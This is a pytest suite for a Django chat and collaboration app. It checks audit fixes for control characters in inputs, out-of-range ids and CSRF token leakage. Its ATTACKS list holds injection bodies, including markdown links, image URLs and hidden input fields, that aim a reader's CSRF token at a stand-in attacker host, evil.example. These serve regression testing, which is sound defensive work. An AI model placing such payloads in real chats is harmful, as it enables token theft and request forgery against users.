"""Issue 8, through the forms and pages: NUL and other control characters in every text input
(finding 3), ids out of range (finding 6) and the reader's CSRF token kept out of message
bodies (finding 7). Each answers with a clear error or a normal page, never a 500, on SQLite
and on PostgreSQL (CI runs the suite on both)."""

import re

import pytest
from django.urls import reverse

from apps.chat import services as chat
from apps.chat.models import Message
from apps.collabs.models import Collab
from apps.core.inputs import MAX_ID, parse_id

CONTROL = "a\x00b\x01c\x07d\x1be\x7ff"


@pytest.fixture(autouse=True)
def roomy_limits(settings):
    settings.CHAT_BURST_MESSAGES = 10_000
    settings.CHAT_SUSTAINED_MESSAGES = 10_000


@pytest.fixture
def as_member(client, member):
    client.force_login(member)
    return client


@pytest.fixture
def as_owner(client, owner):
    client.force_login(owner)
    return client


def chat_url(name: str, collab: Collab, **kwargs) -> str:
    return reverse(f"chat:{name}", kwargs={"collab_id": collab.pk, **kwargs})


def follow_messages(client, response) -> str:
    return client.get(response["Location"]).content.decode()


# --- Finding 3: NUL in text inputs --------------------------------------------------------------


def test_a_message_with_a_nul_comes_back_with_an_error_and_the_text_kept(as_member, collab, member):
    response = as_member.post(chat_url("send", collab), {"body": "Hello\x00world"})

    assert response.status_code == 302
    page = follow_messages(as_member, response)
    assert "NUL character" in page
    assert "Hello" in page  # the draft is back in the composer
    assert not Message.objects.filter(author=member).exists()


def test_a_nul_in_the_form_client_id_is_dropped_and_the_message_sent(as_member, collab, member):
    response = as_member.post(chat_url("send", collab), {"body": "Hi", "client_id": "a\x00b"})

    assert response.status_code == 302
    assert Message.objects.get(author=member).body == "Hi"


def test_other_control_characters_in_a_message_are_kept(as_member, collab, member):
    body = CONTROL.replace("\x00", "")
    as_member.post(chat_url("send", collab), {"body": body})

    assert Message.objects.get(author=member).body == body


def test_an_edit_with_a_nul_gets_400_and_the_message_is_unchanged(as_member, collab, member):
    message = chat.send_message(collab, member, "Draft")

    response = as_member.post(
        chat_url("edit", collab, message_id=message.pk),
        {"body": "Dra\x00ft", "version": message.updated.isoformat()},
    )

    assert response.status_code == 400
    assert "NUL character" in response.content.decode()
    message.refresh_from_db()
    assert message.body == "Draft"


@pytest.mark.parametrize("query", ["a\x00b", "\x00", CONTROL, "\x00" * 500])
def test_searching_the_chat_for_control_characters_answers(as_member, collab, member, query):
    chat.send_message(collab, member, "ab test")

    response = as_member.get(chat_url("search", collab), {"q": query})

    assert response.status_code == 200


@pytest.mark.parametrize("query", ["a\x00b", CONTROL])
def test_searching_the_directory_on_the_members_page_answers(as_owner, collab, query):
    response = as_owner.get(reverse("collabs:members", args=[collab.pk]), {"q": query})

    assert response.status_code == 200


def test_a_collab_name_with_control_characters_is_stored_on_one_clean_line(as_owner, owner):
    response = as_owner.post(
        reverse("collabs:create"), {"name": "Zeta\x00 \x07project", "description": ""}
    )

    assert response.status_code == 302
    assert Collab.objects.filter(name="Zeta project").exists()


def test_a_description_with_a_nul_is_refused_with_an_error(as_owner, owner):
    response = as_owner.post(reverse("collabs:create"), {"name": "Zeta", "description": "a\x00"})

    assert response.status_code == 200
    assert "Null characters are not allowed" in response.content.decode()
    assert not Collab.objects.filter(name="Zeta").exists()


def test_collab_settings_with_a_nul_are_refused_and_nothing_changes(as_owner, collab):
    url = reverse("collabs:settings", args=[collab.pk])
    form = as_owner.get(url).context["form"]
    data = {name: value for name, value in form.initial.items() if value is not None}
    data.pop("avatar", None)
    data["description"] = "New\x00 text"

    response = as_owner.post(url, data)

    assert response.status_code == 200
    collab.refresh_from_db()
    assert "\x00" not in collab.description


def test_a_profile_name_with_control_characters_is_stored_on_one_clean_line(as_member, member):
    response = as_member.post(
        reverse("accounts:profile"),
        {"full_name": "Marina\x00\r\nMember", "timezone": "UTC", "language": ""},
    )

    assert response.status_code == 302
    member.refresh_from_db()
    assert member.full_name == "Marina Member"


def test_signing_in_with_a_nul_in_the_address_answers(client, member):
    response = client.post(
        reverse("account_login"), {"login": "member@example.com\x00", "password": "x\x00"}
    )

    assert response.status_code == 200
    assert "_auth_user_id" not in client.session


# --- Finding 6: ids out of range -----------------------------------------------------------------

HUGE = "99999999999999999999999"


@pytest.mark.parametrize(
    "path",
    [
        f"/collabs/{HUGE}/",
        f"/collabs/{MAX_ID + 1}/",
        f"/collabs/{HUGE}/members/",
        f"/collabs/{HUGE}/chat/search/",
        "/collabs/{collab}/chat/" + HUGE + "/edit/",
        "/collabs/{collab}/chat/" + HUGE + "/revisions/",
        "/collabs/{collab}/members/" + HUGE + "/remove/",
        f"/users/{HUGE}/avatar/",
    ],
)
def test_an_id_out_of_range_in_a_url_is_404(as_member, collab, path):
    response = as_member.get(path.replace("{collab}", str(collab.pk)))

    assert response.status_code == 404


@pytest.mark.parametrize("value", [HUGE, str(MAX_ID + 1), "²", "\u0661", "-1", " 1", "1e3", ""])
def test_odd_message_numbers_in_the_chat_page_are_ignored(as_member, collab, value):
    page = reverse("collabs:detail", args=[collab.pk])

    assert as_member.get(page, {"message": value}).status_code == 200
    assert as_member.get(page, {"reply": value}).status_code == 200


@pytest.mark.parametrize("param", ["after", "around", "before"])
@pytest.mark.parametrize("value", [HUGE, "²", "x"])
def test_odd_message_numbers_in_history_pages_are_400(as_member, collab, param, value):
    response = as_member.get(chat_url("history", collab), {param: value})

    assert response.status_code == 400


@pytest.mark.parametrize("value", [HUGE, "²"])
def test_odd_message_numbers_in_forms_get_a_clear_error(as_member, collab, member, value):
    reply = as_member.post(chat_url("send", collab), {"body": "Hi", "reply_to": value})
    read = as_member.post(chat_url("read", collab), {"last_id": value})

    assert reply.status_code == 302
    assert "Bad message number" in follow_messages(as_member, reply)
    assert not Message.objects.filter(author=member).exists()
    assert read.status_code == 400


def test_parse_id_takes_only_ascii_digits_in_the_64_bit_range():
    assert parse_id("42") == 42
    assert parse_id(42) == 42
    assert parse_id(str(MAX_ID)) == MAX_ID
    for bad in [str(MAX_ID + 1), "0", 0, -1, "²", "\u0661", True, None, 1.0, [1], "", " 1"]:
        assert parse_id(bad) is None, bad
    assert parse_id("0", minimum=0) == 0


# --- Finding 7: the reader's CSRF token never goes into a message -------------------------------
# The message partial holds no form and no token at all since the page has one shared menu and
# one shared form (#msg-act) for the reaction chips: nothing is filled in per reader, so
# nothing written in a message can catch a token.

ATTACKS = [
    "[x](https://evil.example/?t=__csrf__)",
    "![](https://evil.example/__csrf__.png)",
    "https://evil.example/?t=__csrf__",
    '<input type="hidden" name="csrfmiddlewaretoken" value="__csrf__">',
    '`<input type="hidden" name="csrfmiddlewaretoken" value="__csrf__">`',
    'name="csrfmiddlewaretoken" value="__csrf__"',
    "__csrf__",
]


@pytest.mark.parametrize("body", ATTACKS, ids=range(len(ATTACKS)))
def test_a_readers_token_never_appears_in_someone_elses_message(
    client, collab, owner, member, body
):
    message = chat.send_message(collab, owner, body)
    chat.toggle_reaction(collab, owner, message.pk, "👍")  # a reaction chip, submitting #msg-act
    client.force_login(member)

    html = client.get(reverse("collabs:detail", args=[collab.pk])).content.decode()
    token = client.cookies["csrftoken"].value
    part = html[html.index(f'id="m{message.pk}"') :]
    part = part[: part.index("</article>")]
    body_part = part.split('<div class="msg-body">', 1)[1].split("</div>", 1)[0]

    # The page's one shared form has the reader's token; the message has none, anywhere.
    shared = re.search(r'<form id="msg-act"[^>]*>(.*?)</form>', html, re.S)
    tokens = re.findall(r'name="csrfmiddlewaretoken" value="([^"]+)"', shared.group(1))
    assert len(tokens) == 1
    assert 'form="msg-act"' in part  # the chip submits the shared form
    assert "<form" not in part.replace("&lt;form", "")
    assert tokens[0] not in part and token not in part
    # ...and the body shows the marker as written.
    if "evil.example/?t=" in body:
        assert "?t=__csrf__" in body_part
